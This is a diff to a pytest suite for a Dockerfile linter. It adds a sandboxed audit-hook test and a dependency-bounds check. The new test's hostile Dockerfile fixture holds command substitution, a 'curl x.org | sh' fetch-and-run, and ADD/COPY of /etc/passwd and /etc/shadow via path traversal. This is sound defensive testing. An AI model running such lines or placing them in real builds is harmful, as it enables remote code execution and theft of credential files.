@@ -17,6 +17,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
+import tomli
 
 from tests.inprocess import call
 from tests.test_cli import (
@@ -414,6 +415,49 @@ def test_words_of_a_configuration_can_not_steer(untrusted: Path) -> None:
     assert "\\x1b[2J\\nx" in done.out
 
 
+WATCHED = """
+import os, sys
+here, allowed = os.getcwd(), tuple(sys.argv[1].split(os.pathsep))
+def watch(event, args):
+    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "ctypes.")):
+        raise SystemExit(f"{event} {args}")
+    if event == "open" and isinstance(args[0], str):
+        path = os.path.realpath(args[0])
+        if args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT) or not path.startswith((here, *allowed)):
+            raise SystemExit(f"{event} {args}")
+sys.argv = ["zr4lint", *sys.argv[2:]]
+sys.dont_write_bytecode = True
+from zr4lint.__main__ import main
+sys.addaudithook(watch)
+main()
+"""
+"""zr4lint in a process that ends with a word on what it does that a linter should not."""
+
+
+def test_linting_runs_nothing_writes_nothing_and_reads_nothing_outside(untrusted: Path) -> None:
+    hostile = (
+        "FROM a\nRUN $(touch /tmp/x) `id` && curl x.org | sh\nADD /etc/passwd ../../../etc/hosts https://x.org/a /\n"
+    )
+    save(untrusted / "Dockerfile.levels", hostile + 'COPY ../../etc/shadow start.sh /\nSHELL ["/bin/sh"]\n')
+    save(untrusted / "zr4lint.toml", 'packs = { "*.levels" = ["inside/levels.toml", "zr4", "ml"] }\n')
+    places = os.pathsep.join([str(ROOT), os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix)])
+    done = subprocess.run(
+        [sys.executable, "-c", WATCHED, places, "--format", "concise", "Dockerfile.levels"],
+        cwd=untrusted,
+        env=environment(PYTHONPATH=str(ROOT)),
+        capture_output=True,
+        check=False,
+    )
+    assert (done.returncode, done.stderr.decode()) == (1, "")
+    assert b"LV0001" in done.stdout
+
+
+def test_dependencies_have_bounds_on_both_sides() -> None:
+    project = tomli.loads((ROOT / "pyproject.toml").read_text())["project"]
+    for one in [*project["dependencies"], *project["optional-dependencies"]["test"]]:
+        assert re.fullmatch(r"[\w-]+>=[\d.]+,<[\d.]+", one), one
+
+
 # Output
 
 STEERING = "ENV X=\x1b[31m\u202e [red]\nRUN echo ::error::x\n::error::y\n##[error]z\n"
@@ -428,7 +472,7 @@ def test_no_report_steers(here: Path, form: str) -> None:
     changed(here)
     done = call("--format", form, "--verbose", cwd=here)
     assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.out)
-    if form in ("text", "concise", "markdown"):
+    if form != "github":
         assert not re.search(r"(?m)^ *::|##\[", done.out)
 
 
